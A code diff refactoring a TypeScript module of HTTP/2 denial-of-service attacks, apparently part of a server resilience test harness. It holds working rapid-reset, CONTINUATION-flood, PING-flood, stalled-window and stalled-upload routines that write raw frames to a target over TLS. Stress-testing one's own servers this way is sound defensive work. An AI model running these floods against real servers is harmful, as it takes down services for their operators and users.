@@ -1,52 +1,15 @@
 import { setTimeout as pause } from 'node:timers/promises'
+import { FLAG, FRAME, frame, headerBlock, initialWindow } from '../../../fixture/http2-attacker.js'
 import { type Attack, hold, openRaw, openSecure } from './attack.js'
 
 const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
 const DATA = 0
-const HEADERS = 1
-const RST_STREAM = 3
-const SETTINGS = 4
-const PING = 6
-const CONTINUATION = 9
-const END_STREAM = 1
-const END_HEADERS = 4
-/** The identifier of SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 §6.5.2). */
-const INITIAL_WINDOW_SIZE = 4
-
-function frame(
-  type: number,
-  flags: number,
-  stream: number,
-  payload: Buffer = Buffer.alloc(0),
-): Buffer {
-  const head = Buffer.alloc(9)
-  head.writeUIntBE(payload.length, 0, 3)
-  head[3] = type
-  head[4] = flags
-  head.writeUInt32BE(stream, 5)
-  return Buffer.concat([head, payload])
-}
 
 /** A preface after which the server may send no byte of a body. */
-function closedWindow(): Buffer {
-  const window = Buffer.alloc(6)
-  window.writeUInt16BE(INITIAL_WINDOW_SIZE, 0)
-  return Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, window)])
-}
-
-/** HPACK (RFC 7541) without Huffman: :method GET, :scheme https, :authority, :path. */
-function block(path: string): Buffer {
-  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)])
-  return Buffer.concat([
-    Buffer.from([0x82, 0x87, 1]),
-    text('localhost'),
-    Buffer.from([4]),
-    text(path),
-  ])
-}
+const CLOSED_WINDOW = Buffer.concat([PREFACE, initialWindow(0)])
 
 const get = (stream: number, path: string) =>
-  frame(HEADERS, END_STREAM | END_HEADERS, stream, block(path))
+  frame(FRAME.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, stream, headerBlock(path))
 
 const identifiers = (count: number) => Array.from({ length: count }, (_, each) => 2 * each + 1)
 
@@ -55,7 +18,7 @@ export const closedWindows: Attack = async (target) => {
   const sockets = await openSecure(3, target, 'h2')
   for (const socket of sockets) {
     socket.write(
-      Buffer.concat([closedWindow(), ...identifiers(5_000).map((id) => get(id, '/stable-0'))]),
+      Buffer.concat([CLOSED_WINDOW, ...identifiers(5_000).map((id) => get(id, '/stable-0'))]),
     )
   }
   await hold(sockets, target.draw)
@@ -65,9 +28,9 @@ export const closedWindows: Attack = async (target) => {
 export const rapidReset: Attack = async (target) => {
   const sockets = await openSecure(3, target, 'h2')
   const cancel = Buffer.from([0, 0, 0, 8])
-  const both = (id: number) => [get(id, '/stable-1'), frame(RST_STREAM, 0, id, cancel)]
+  const both = (id: number) => [get(id, '/stable-1'), frame(FRAME.RST_STREAM, 0, id, cancel)]
   for (const socket of sockets) {
-    socket.write(Buffer.concat([closedWindow(), ...identifiers(5_000).flatMap(both)]))
+    socket.write(Buffer.concat([CLOSED_WINDOW, ...identifiers(5_000).flatMap(both)]))
   }
   await hold(sockets, target.draw)
 }
@@ -75,9 +38,9 @@ export const rapidReset: Attack = async (target) => {
 /** Sends header blocks that never end, one byte or a full frame at a time. */
 export const endlessHeaders: Attack = async (target) => {
   const sockets = await openSecure(10, target, 'h2')
-  const more = frame(CONTINUATION, 0, 1, Buffer.alloc(target.draw.oneOf([1, 16_000])))
+  const more = frame(FRAME.CONTINUATION, 0, 1, Buffer.alloc(target.draw.oneOf([1, 16_000])))
   for (const socket of sockets) {
-    socket.write(Buffer.concat([closedWindow(), frame(HEADERS, 0, 1, block('/'))]))
+    socket.write(Buffer.concat([CLOSED_WINDOW, frame(FRAME.HEADERS, 0, 1, headerBlock('/'))]))
   }
   for (let sent = 0; sent < 20; sent += 1) {
     await pause(200)
@@ -90,11 +53,11 @@ export const endlessHeaders: Attack = async (target) => {
 export const pings: Attack = async (target) => {
   const sockets = await openSecure(2, target, 'h2')
   const flood = Buffer.concat(
-    Array.from({ length: 10_000 }, () => frame(PING, 0, 0, Buffer.alloc(8))),
+    Array.from({ length: 10_000 }, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
   )
   for (const socket of sockets) {
     socket.pause()
-    socket.write(Buffer.concat([closedWindow(), flood]))
+    socket.write(Buffer.concat([CLOSED_WINDOW, flood]))
   }
   await hold(sockets, target.draw)
 }
@@ -114,10 +77,10 @@ export const uploads: Attack = async (target) => {
   const sockets = await openSecure(3, target, 'h2')
   const body = Buffer.concat(
     identifiers(20).flatMap((id) => [
-      frame(HEADERS, END_HEADERS, id, block('/stable-2')),
+      frame(FRAME.HEADERS, FLAG.END_HEADERS, id, headerBlock('/stable-2')),
       frame(DATA, 0, id, Buffer.alloc(3_000)),
     ]),
   )
-  for (const socket of sockets) socket.write(Buffer.concat([closedWindow(), body]))
+  for (const socket of sockets) socket.write(Buffer.concat([CLOSED_WINDOW, body]))
   await hold(sockets, target.draw)
 }
